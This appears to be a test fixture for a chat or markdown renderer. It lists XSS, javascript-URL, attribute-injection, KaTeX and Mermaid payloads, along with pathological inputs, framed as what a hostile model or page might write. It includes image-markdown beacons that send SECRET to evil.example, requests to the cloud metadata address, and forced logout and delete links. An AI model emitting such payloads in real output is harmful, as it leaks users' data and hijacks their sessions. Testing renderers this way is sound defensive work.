/** What a hostile model, or a hostile page read by a model, may write. */
const IMG = "<img src=x onerror=__x=1>";

const RAW_HTML = [
  IMG,
  "<svg/onload=__x=1>",
  "<script>__x=1</script>",
  '<iframe srcdoc="<script>parent.__x=1</script>">',
  '<iframe src="/api/v1/files/" onload="__x=1">',
  "<details open ontoggle=__x=1>",
  "<a href=javascript:__x=1>z</a>",
  "<form action=//evil.example><button>",
  "<base href=//evil.example/>",
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  "<link rel=prefetch href=//evil.example/p>",
  "<style>@import'//evil.example'</style>",
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=__x=1&gt;">',
  `<select><option selected>${IMG}</option><selectedcontent></selectedcontent></select>`,
  `<template>${IMG}</template>`,
  `<xmp></xmp>${IMG}`,
  "<!-- unclosed comment, then text",
  "<img name=cookie><form id=location><input id=querySelector>",
  "<br onclick=__x=1> <sub class=x>a</sub> <kbd id=b>c</kbd> <mark\nstyle=x>d</mark> <SUB>e</SUB>",
];

const URLS = [
  "[a](javascript:__x=1)",
  "[a](JaVaScRiPt:__x=1)",
  "[a](java&#10;script:__x=1)",
  "[a](&#106;avascript:__x=1)",
  "[a](javascript&colon;__x=1)",
  "[a](\x01javascript:__x=1)",
  "[a](<java\nscript:__x=1>)",
  "<javascript:__x=1>",
  "[a][j]\n\n[j]: javascript:__x=1\n",
  "[a](vbscript:x) [a](data:text/html,<script>__x=1</script>) [a](data:image/svg+xml;base64,PHN2Zz4=)",
  "[a](data:image/png;base64,AAAA) ![a](data:image/png;base64,AAAA)",
  "[a](file:///etc/passwd) [a](blob:https://x/1) [a](filesystem:https://x/t) [a](view-source:https://x)",
  "[a](intent://x#Intent;end) [a](ms-msdt:/id) [a](ftp://x/) [a](ws://x/) [a](about:blank)",
  "[a](//evil.example) [a](\\\\evil.example\\x) [a](/\\evil.example) [a](https:evil) [a](https:/evil.example)",
  "[a](https://app.example@evil.example) [a](https://@evil.example) [a](https://u:p@evil.example)",
  "[https://bank.example](https://evil.example) [a](https://\u0430pple.com)",
  "[a](/accounts/logout/) [a](https://chat.example/accounts/logout/) [a](?next=/) [a](x) [a](../admin)",
];

const ATTRIBUTES = [
  '![" onerror="__x=1](x)',
  '![a](x "t\\" onerror=\\"__x=1")',
  '[a](https://x/"onclick="__x=1)',
  'https://e.x/"onmouseover="__x=1',
  "```\"><img src=x onerror=__x=1>\nx\n```",
  "```js onload=__x=1\nx\n```",
  '~~~ " style=position:fixed\nx\n~~~',
  '[a](https://x.example "\u202e\\" onclick=\\"__x=1")',
];

const EXFILTRATION = [
  "![x](https://evil.example/p.png?q=SECRET)",
  "![x][r]\n\n[r]: https://evil.example/?q=SECRET\n",
  "[![x](https://evil.example/1)](https://ok.example)",
  "![x](//evil.example/p) ![x](http://169.254.169.254/) ![x](https://proxy.example/?url=https://evil.example/SECRET)",
  "![x](/accounts/logout/) ![x](/admin/chat/delete/) ![x](/api/export?all=1)",
  "| a |\n|---|\n| ![x](https://evil.example/t) |\n",
  "> ![x](https://evil.example/q)\n\n- ![x](https://evil.example/l)\n\n[^1]: ![x](https://evil.example/f)",
  "https://SECRET.evil.example [a](https://evil.example/?q=SECRET)",
];

const MATH_AND_DIAGRAMS = [
  "$\\href{javascript:__x=1}{x}$ $\\includegraphics{https://evil.example/a.png}$ $\\htmlData{a=b,onclick=__x=1}{x}$",
  "$\\url{javascript:__x=1}$ \\(\\htmlStyle{position:fixed}{x}\\) $\\htmlId{cookie}{x}$ $\\class{a}{x}$ $\\cssId{b}{x}$",
  "$\\def\\a{\\a\\a}\\a$ $\\rule{1e6em}{1e6em}$ $\\kern{-1e6em}x$ $\\pmb{x}$ $\\prescript{a}{b}{c}$ $\\color{url(//evil.example)}{x}$",
  `\\[\\text{${IMG}} \\tag{${IMG}}\\label{cookie}\\]`,
  `$$\n\\texttip{a}{${IMG}} \\toggle{a}{b}\\endtoggle\n$$\n`,
  `$$\nnever closed ${IMG}\n\n[a](javascript:__x=1)`,
  `$x${IMG}$ and $\"onclick=__x=1$`,
  `$$${"{".repeat(200)}${IMG}$$`,
  '```mermaid\n%%{init:{"securityLevel":"loose","htmlLabels":true}}%%\nA@{ img: "https://evil.example/b?x" }\nclassDef x fill:url(//evil.example)\n```',
  '```mermaid\ngraph TD; A["<img src=x onerror=__x=1>"]\nclick A "javascript:__x=1"\n```',
];

const LOOKS = [
  "\u202eevil\u202c \u2066x\u2069 [a](https://x.example/\u200b) <https://x.example/\u202e>",
  "NUL \0 [a](https://x.example/\0)",
  "lone \ud800 and \udfff [a](https://x.example/\ud800)",
  "- [x] <input type=text autofocus onfocus=__x=1>",
  "1000000000. x\n\n999999999. y\n\n0. z",
];

export const PAYLOADS = [...RAW_HTML, ...URLS, ...ATTRIBUTES, ...EXFILTRATION, ...MATH_AND_DIAGRAMS, ...LOOKS];

export const PATHOLOGICAL = {
  "ten thousand quotes": ">".repeat(10_000),
  "ten thousand brackets": "[".repeat(10_000),
  "ten thousand image brackets": "![".repeat(10_000),
  "images in images": `${"![".repeat(3_000)}${"](x)".repeat(3_000)}`,
  "open emphasis": "*a **b ".repeat(3_000),
  "nested emphasis": `${"**x".repeat(3_000)}${"x**".repeat(3_000)}`,
  "a ladder of backticks": Array.from({ length: 200 }, (_, index) => "`".repeat(index + 1)).join(" "),
  "lists in lists": "- ".repeat(5_000),
  "lists in lists, line by line": Array.from({ length: 150 }, (_, index) => `${" ".repeat(index * 2)}- x\n`).join(""),
  "tags in tags": `${"<sub>".repeat(3_000)}x${"</sub>".repeat(3_000)}`,
  "half links": "[a](".repeat(5_000),
  "a formula of braces": `$$${"{".repeat(20_000)}x$$`,
  dollars: "$".repeat(10_000),
  "dollars and words": "$a ".repeat(5_000),
  "half formulas": "\\(a \\[b $$c ".repeat(3_000),
  "blocks of formulas that never end": "$$\n\\[\nx\n\n".repeat(3_000),
  "a very long line": "word ".repeat(40_000),
};
